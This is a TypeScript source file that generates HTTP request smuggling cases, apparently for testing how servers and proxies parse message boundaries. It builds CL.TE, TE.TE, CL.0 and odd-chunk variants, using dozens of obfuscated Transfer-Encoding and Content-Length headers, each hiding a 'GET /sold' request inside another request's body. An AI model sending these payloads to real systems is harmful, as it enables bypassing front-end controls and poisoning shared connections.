/** A request with another one in its body, for servers that disagree about where the body ends. */
export interface SmuggledCase {
  readonly name: string;
  readonly bytes: Buffer;
}

const HIDDEN = 'GET /sold HTTP/1.1\r\nHost: a\r\n\r\n';
/** Writings of the header that some servers take for `Transfer-Encoding: chunked`, and others do not. */
const CODINGS = [
  ...['Transfer-Encoding: chunked', 'Transfer-Encoding : chunked', ' Transfer-Encoding: chunked'],
  ...[
    'Transfer-Encoding:\tchunked',
    'Transfer-Encoding: xchunked',
    'Transfer-Encoding: chunked, identity',
  ],
  ...[
    'Transfer-Encoding: identity, chunked',
    'Transfer-Encoding: "chunked"',
    'Transfer-Encoding: chunked;a=b',
  ],
  ...[
    'Transfer-Encoding:\u000bchunked',
    'Transfer-Encoding: chunked\u000b',
    'X: x\nTransfer-Encoding: chunked',
  ],
  ...[
    'Transfer-Encoding:\r\n chunked',
    'Transfer_Encoding: chunked',
    'Transfer-Encoding\u0000: chunked',
  ],
  ...[
    'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
    'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  ],
  ...[
    'TRANSFER-ENCODING: CHUNKED',
    'Transfer-Encoding: chunked\u00a0',
    'X: x\rTransfer-Encoding: chunked',
  ],
];
/** The same for a length. */
const LENGTHS = [
  ...[
    'Content-Length: 0',
    'Content-Length: 5',
    'Content-Length: 999',
    'Content-Length: +5',
    'Content-Length: 05',
  ],
  ...[
    'Content-Length: 5, 5',
    'Content-Length: 5\r\nContent-Length: 6',
    'Content-Length: 0x5',
    'Content-Length: 5 5',
  ],
  ...['Content_Length: 5', 'Content-Length : 5', 'Content-Length: -1', 'Content-Length: 5;'],
];

function request(method: string, headers: string, body: string): Buffer {
  return Buffer.from(`${method} /free HTTP/1.1\r\nHost: a\r\n${headers}\r\n\r\n${body}`, 'latin1');
}

/** CL.TE, TE.CL, TE.TE, CL.CL, CL.0 and odd chunks, each with a request for what is sold in the body. */
export function smugglingCases(): readonly SmuggledCase[] {
  const chunked = `${HIDDEN.length.toString(16)}\r\n${HIDDEN}\r\n0\r\n\r\n`;
  const ended = `0\r\n\r\n${HIDDEN}`;
  const cases: SmuggledCase[] = [];
  const add = (name: string, bytes: Buffer): void => void cases.push({ name, bytes });
  for (const method of ['POST', 'GET']) {
    for (const coding of CODINGS) {
      const name = `${method}, ${JSON.stringify(coding)}`;
      add(
        `${name}, ended early`,
        request(method, `Content-Length: ${ended.length}\r\n${coding}`, ended),
      );
      add(`${name}, length short`, request(method, `${coding}\r\nContent-Length: 4`, chunked));
      add(`${name}, no length`, request(method, coding, ended));
    }
    for (const length of LENGTHS) {
      add(`${method}, ${JSON.stringify(length)}`, request(method, length, HIDDEN));
    }
  }
  const chunks = [
    ...[
      '0;\r\n\r\n',
      '0\n\n',
      '00000000000000000\r\n\r\n',
      '0 \r\n\r\n',
      '0x0\r\n\r\n',
      '-0\r\n\r\n',
      '0\r\n\r',
      '0\r\r\n',
    ],
    ...[
      '1\r\nAB\r\n0\r\n\r\n',
      '1\nA\n0\n\n',
      '1;\nGET\r\nA\r\n0\r\n\r\n',
      'fffffffffffffffff\r\n',
      '0\r\nGET /sold HTTP/1.1\r\n\r\n',
    ],
    ...[
      '5;a="\r\n\r\n0\r\n\r\n"\r\nhello\r\n0\r\n\r\n',
      '0\r\nContent-Length: 5\r\n\r\n',
      '0\r\nX: y\n\r\n',
    ],
  ];
  for (const chunk of chunks) {
    add(
      `chunk ${JSON.stringify(chunk)}`,
      request('POST', 'Transfer-Encoding: chunked', chunk + HIDDEN),
    );
  }
  return cases;
}
